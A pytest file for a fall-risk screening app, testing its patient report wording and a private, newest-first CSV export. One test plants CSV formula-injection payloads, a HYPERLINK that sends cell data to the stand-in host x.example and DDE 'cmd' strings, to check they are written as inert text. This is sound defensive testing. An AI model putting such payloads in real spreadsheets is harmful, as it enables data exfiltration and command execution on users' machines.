"""The report and the CSV export, no Qt: what the report says about each test (by the
meaning stored with each result), the checklist answers, and a private, newest-first CSV."""

from __future__ import annotations

import csv
import dataclasses
import json
import os
import re
import stat
from datetime import UTC, date, datetime, timedelta

import pytest

from legapp import assess
from legapp.track import export
from legapp.track import report as rp
from legapp.track.profiles import Profile
from legapp.track.records import Record, record_of

T0 = datetime(2026, 3, 1, 10, 0, tzinfo=UTC)
ANA = Profile(1, "Ana María", 1954, "female")  # 72 in 2026
ORDER = ("chair_stand_30s", "balance_4stage", "five_times_sts", "tug", "stay_independent", "sarc_f")
FIRST_YES = {"fallen_past_year", "holds_furniture", "trouble_with_curb", "medicine_light_headed"}  # 2+1+1+1
LATER_YES = {"worried_about_falling"}  # 1 point


def result_record(result, raw, day: int, profile_id: int = 1, **kw) -> Record:
    return record_of(result, raw, profile_id=profile_id, content_version=1, taken_at=T0 + timedelta(days=day),
                     **kw)


def _checklist(day: int, yes: set[str]) -> Record:
    answers = {item: item in yes for item in assess.STAY_INDEPENDENT_ITEMS}
    return result_record(assess.score_stay_independent(answers), {"answers": answers}, day)


def sample_records() -> list[Record]:
    """One person's history: every test, the chair stand and the checklist twice (shuffled,
    as a caller may pass them), and one result of somebody else."""
    sarc = dict(zip(assess.SARC_F_ITEMS, [1, 0, 2, 1, 0], strict=True))
    return [
        result_record(assess.score_tug(11.53, 72), {"seconds": 11.53}, 4, age=72, sex="female"),
        result_record(assess.score_chair_stand_30s(9, 72, "female"),
                      {"count": 9, "halfway": False, "arms": False}, 0, age=72, sex="female"),
        result_record(assess.score_chair_stand_30s(11, 72, "female"),
                      {"count": 10, "halfway": True, "arms": False}, 30, age=72, sex="female"),
        result_record(assess.score_balance_4stage([10, 10, 4.2]), {"held_seconds": [10, 10, 4.2]}, 2),
        result_record(assess.score_five_times_sts(None, 72), {"completed": False, "arms": True}, 3, age=72),
        _checklist(5, FIRST_YES),
        _checklist(12, LATER_YES),
        result_record(assess.score_sarc_f(sarc), {"answers": sarc}, 6),
        result_record(assess.score_chair_stand_30s(3, 80, "male"), {"count": 3}, 40, profile_id=2, age=80,
                      sex="male"),
    ]


def _strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if dataclasses.is_dataclass(value):
        return [s for f in dataclasses.fields(value) for s in _strings(getattr(value, f.name))]
    if isinstance(value, tuple | list):
        return [s for item in value for s in _strings(item)]
    return []


@pytest.fixture
def report(pack):
    return rp.build_report(ANA, sample_records(), pack, date(2026, 4, 1))


def _section(report, test):
    return next(s for s in report.sections if s.test == test)


# -- the report ----------------------------------------------------------------------------------

def test_who_and_when(report):
    assert (report.name, report.birth_year, report.sex, report.made_on) == ("Ana María", 1954, "female",
                                                                            date(2026, 4, 1))
    assert "not a diagnosis" in report.disclaimer


def test_one_section_per_test_in_the_menu_order(report, pack):
    assert tuple(s.test for s in report.sections) == ORDER == rp.menu_order(pack)
    assert [s.title for s in report.sections] == [rp.title_of(t, pack) for t in ORDER]


def test_latest_and_previous_results(report, pack):
    chair = _section(report, "chair_stand_30s")
    assert chair.count == 2  # the other person's 3 stands are not Ana's
    assert chair.latest.taken_at == T0 + timedelta(days=30)
    assert chair.latest.score_text == "11 stands"  # the stored score, which counts the last half stand
    assert chair.latest.meaning_title == pack.results["chair_stand_30s"]["average_or_better"].title
    assert chair.previous.score_text == "9 stands"
    assert chair.previous.meaning_title == pack.results["chair_stand_30s"]["below_average"].title
    assert "You stood up 9 times" in chair.previous.meaning_text
    assert "(70 to 74)" in chair.previous.meaning_text
    assert "usual range is 10 to 15" in chair.previous.meaning_text
    assert chair.latest.threshold == "fewer than 10 stands, for women aged 70 to 74"
    assert chair.latest.source.startswith("CDC STEADI")

    balance = _section(report, "balance_4stage")
    assert (balance.latest.score_text, balance.previous, balance.count) == ("2 of 4 positions held", None, 1)
    assert balance.latest.threshold == "the tandem stance held for less than 10 seconds"

    five = _section(report, "five_times_sts")
    assert five.latest.score_text == "Not completed"
    assert five.latest.meaning_title == pack.results["five_times_sts"]["not_completed"].title
    assert five.latest.threshold == "15 seconds or more"

    tug = _section(report, "tug")
    assert tug.latest.score_text == "11.5 seconds"
    assert "You took 11.5 seconds. That is less than 12 seconds" in tug.latest.meaning_text

    checklist = _section(report, "stay_independent")
    assert (checklist.count, checklist.latest.score_text) == (2, "1 of 14 points")
    assert checklist.previous.score_text == "5 of 14 points"
    assert checklist.latest.threshold == "4 points or more (out of 14)"

    sarc = _section(report, "sarc_f")
    assert sarc.latest.score_text == "4 of 10 points"
    assert sarc.latest.meaning_title == pack.results["sarc_f"]["likely_sarcopenia"].title


def test_no_placeholder_is_left_anywhere(report):
    words = _strings(report)
    assert len(words) > 50
    assert not [w for w in words if "{" in w or "}" in w]


def test_the_note_for_the_doctor_says_what_and_the_cut_off_in_clinical_words(report, pack):
    chair = _section(report, "chair_stand_30s")
    assert chair.measures_note.startswith("Lower-limb strength and endurance")
    assert "fewer than 10 stands" in chair.measures_note
    sarc = _section(report, "sarc_f")
    assert sarc.measures_note.startswith("SARC-F sarcopenia screen")
    assert "4 points or more (out of 10)" in sarc.measures_note
    for section in report.sections:  # the doctor's lines do not speak to the patient
        assert not re.search(r"\byou(r)?\b", section.measures_note, re.IGNORECASE), section.test


def test_checklist_answers_are_the_latest_ones_in_the_packs_words(report, pack):
    questions = pack.questionnaire("stay_independent").questions
    assert report.checklist == tuple((q.text, "Yes" if q.id in LATER_YES else "No") for q in questions)


def test_the_stored_meaning_is_used_not_a_new_score(pack):
    # Stored by older norms: 11 stands at 72 was "below average" against "count < 12".
    # Today's norms say fewer than 10, so scoring it again would say average or better.
    today = assess.score_chair_stand_30s(11, 72, "female")
    assert today.meaning == "average_or_better"
    old = dataclasses.replace(result_record(today, {"count": 11}, 0, age=72, sex="female"),
                              meaning="below_average", at_risk=True, threshold="count < 12")
    chair = rp.build_report(ANA, [old], pack, date(2026, 4, 1)).sections[0]
    assert chair.latest.meaning_title == pack.results["chair_stand_30s"]["below_average"].title
    assert "fewer than 12 is below average" in chair.latest.meaning_text
    assert chair.latest.threshold.startswith("fewer than 12 stands")


def test_a_sentence_that_cannot_be_filled_is_left_out(pack):
    # A result kept without age or sex, of a profile of an age the CDC table has no group
    # for: the sentences about the age group and the usual range are left out.
    stored = Record(profile_id=1, test="chair_stand_30s", taken_at=T0, raw={"count": 9}, score=9.0,
                    at_risk=True, meaning="below_average", threshold="count < 14", source="CDC STEADI",
                    content_version=1)
    young = Profile(1, "Ana", 1976, "female")  # 50 in 2026
    line = rp.build_report(young, [stored], pack, date(2026, 4, 1)).sections[0].latest
    assert line.meaning_text == "You stood up 9 times. This can mean a higher chance of a fall."
    assert line.threshold == "fewer than 14 stands"


def test_age_and_sex_come_from_the_profile_when_the_result_has_none(pack):
    stored = Record(profile_id=1, test="chair_stand_30s", taken_at=T0, raw={"count": 9}, score=9.0,
                    at_risk=True, meaning="below_average", threshold="count < 10", source="CDC STEADI",
                    content_version=1)
    born_in_january = dataclasses.replace(ANA, birth_month=1)  # 72 on 1 March 2026
    line = rp.build_report(born_in_january, [stored], pack, date(2026, 4, 1)).sections[0].latest
    assert "(70 to 74)" in line.meaning_text
    assert line.threshold == "fewer than 10 stands, for women aged 70 to 74"
    # With the year alone she may be 71 or 72 on that day: no age group is guessed.
    line = rp.build_report(ANA, [stored], pack, date(2026, 4, 1)).sections[0].latest
    assert "(70 to 74)" not in line.meaning_text


def test_no_norm_for_the_age(pack):
    result = assess.score_chair_stand_30s(6, 96, "female")
    assert result.meaning == "no_norm_for_age"
    old = Profile(1, "Rosa", 1930, "female")
    section = rp.build_report(old, [result_record(result, {"count": 6}, 0, age=96, sex="female")], pack,
                              date(2026, 4, 1)).sections[0]
    assert section.latest.threshold == ""
    assert section.latest.meaning_text.startswith("You stood up 6 times.")
    assert section.measures_note.endswith("There is no cut-off for this age.")


def test_numbers_follow_the_pack(pack):
    info = pack.info.model_copy(update={"decimal_separator": ",", "range_format": "{low}-{high}"})
    comma = pack.model_copy(update={"info": info})
    report = rp.build_report(ANA, sample_records(), comma, date(2026, 4, 1))
    tug = _section(report, "tug")
    assert tug.latest.score_text == "11,5 seconds"
    assert "You took 11,5 seconds" in tug.latest.meaning_text
    chair = _section(report, "chair_stand_30s")
    assert "(70-74)" in chair.previous.meaning_text
    assert chair.latest.threshold.endswith("aged 70-74")


def test_nothing_saved_yet(pack):
    report = rp.build_report(ANA, [], pack, date(2026, 4, 1))
    assert (report.sections, report.checklist) == ((), ())


# -- the CSV export ------------------------------------------------------------------------------

def _read(path):
    with open(path, encoding=export.ENCODING, newline="") as f:
        return list(csv.reader(f))


def test_csv_has_one_row_per_result_newest_first(tmp_path, pack):
    records = [r for r in sample_records() if r.profile_id == 1]
    path = tmp_path / "history.csv"
    export.write_csv(records, path, pack)
    header, *rows = _read(path)
    assert tuple(header) == export.COLUMNS == ("date", "test", "test name", "score", "at risk", "meaning",
                                               "threshold", "source", "content version", "raw")
    assert len(rows) == len(records)
    newest = sorted(records, key=lambda r: r.taken_at, reverse=True)
    assert [row[0] for row in rows] == [r.taken_at.astimezone().strftime("%Y-%m-%d %H:%M") for r in newest]
    assert [row[0] for row in rows] == sorted((row[0] for row in rows), reverse=True)
    by_test = {row[1]: dict(zip(header, row, strict=True)) for row in reversed(rows)}  # the newest of each
    chair = by_test["chair_stand_30s"]
    assert chair == {"date": (T0 + timedelta(days=30)).astimezone().strftime("%Y-%m-%d %H:%M"),
                     "test": "chair_stand_30s", "test name": pack.protocol("chair_stand_30s").title,
                     "score": "11", "at risk": "no",
                     "meaning": pack.results["chair_stand_30s"]["average_or_better"].title,
                     "threshold": "count < 10", "source": records[2].source, "content version": "1",
                     "raw": chair["raw"]}
    assert json.loads(chair["raw"]) == {"count": 10, "halfway": True, "arms": False}
    assert by_test["five_times_sts"]["score"] == ""
    assert by_test["five_times_sts"]["at risk"] == "yes"
    assert by_test["tug"]["score"] == "11.53"
    assert json.loads(by_test["stay_independent"]["raw"])["answers"]["worried_about_falling"] is True


def test_csv_at_risk_is_blank_when_no_norm_applies(tmp_path, pack):
    result = assess.score_chair_stand_30s(6, 96, "female")
    export.write_csv([result_record(result, {"count": 6}, 0, age=96, sex="female")], tmp_path / "a.csv", pack)
    assert _read(tmp_path / "a.csv")[1][4] == ""


@pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")
def test_csv_is_private_even_with_an_open_umask_and_over_an_old_file(tmp_path, pack):
    path = tmp_path / "history.csv"
    path.write_text("old")
    path.chmod(0o644)
    old_umask = os.umask(0)
    try:
        export.write_csv(sample_records(), path, pack)
    finally:
        os.umask(old_umask)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["history.csv"]  # no temp file left


def test_a_failed_export_leaves_the_old_file_and_no_temp_file(tmp_path, pack, monkeypatch):
    path = tmp_path / "history.csv"
    path.write_text("the old export")

    def broken(*_args, **_kw):
        raise OSError("disk full")

    monkeypatch.setattr(export.csv, "writer", broken)
    with pytest.raises(OSError, match="disk full"):
        export.write_csv(sample_records(), path, pack)
    assert path.read_text() == "the old export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["history.csv"]


def test_csv_round_trips_names_with_accents_commas_and_quotes(tmp_path, pack):
    record = dataclasses.replace(sample_records()[0], source='Müller, "TUG" study')
    export.write_csv([record], tmp_path / "a.csv", pack)
    assert _read(tmp_path / "a.csv")[1][7] == 'Müller, "TUG" study'
    assert (tmp_path / "a.csv").read_bytes().startswith(b"\xef\xbb\xbf")  # spreadsheets see UTF-8


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path, pack_copy):
    from legapp.content.loader import load_pack

    protocol = pack_copy / "protocols" / "chair-stand-30s.yaml"
    text = protocol.read_text(encoding="utf-8")
    title = next(line for line in text.splitlines() if line.startswith("title: "))
    # (no digit: a pack's test words type no number, legapp.content.measured)
    protocol.write_text(text.replace(title, 'title: "=HYPERLINK(\\"http://x.example/?\\"&B,\\"Open\\")"', 1),
                        encoding="utf-8")
    hostile = load_pack(pack_copy)
    chair = next(r for r in sample_records() if r.test == "chair_stand_30s")
    records = [dataclasses.replace(chair, source=start + "cmd|' /C calc'!A0", id=n)
               for n, start in enumerate(("=", "+", "-", "@", "\t", "\r"))]
    export.write_csv(records, tmp_path / "a.csv", hostile)
    _header, *rows = _read(tmp_path / "a.csv")
    assert {row[2] for row in rows} == {'\'=HYPERLINK("http://x.example/?"&B,"Open")'}
    assert sorted(row[7] for row in rows) == sorted("'" + start + "cmd|' /C calc'!A0"
                                                    for start in ("=", "+", "-", "@", "\t", "\r"))
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_csv_plain_numbers_stay_numbers():
    assert [export.safe_cell(x) for x in ("-2.5", "+3", "11", "1e-3", "-", "-1+2", "=1")] == [
        "-2.5", "+3", "11", "1e-3", "'-", "'-1+2", "'=1"]
